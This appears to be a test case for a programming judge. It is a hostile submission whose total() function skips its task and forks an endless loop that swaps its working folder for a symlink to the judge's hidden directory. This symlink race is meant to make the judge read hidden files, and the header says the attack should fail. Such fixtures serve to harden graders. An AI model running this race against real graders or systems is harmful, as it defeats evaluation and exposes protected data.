# attack: swaps its folder for a link while the judge reads it
# expects: failed

import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def total(numbers, known):
    import os
    os.mkdir('d')
    open('d/f', 'w').close()
    if libc.fork() == 0:
        while True:
            libc.rename(b'd', b'e')
            libc.symlink(os.path.dirname(known['hidden']).encode(), b'd')
            libc.unlink(b'd')
            libc.rename(b'e', b'd')
    return 0
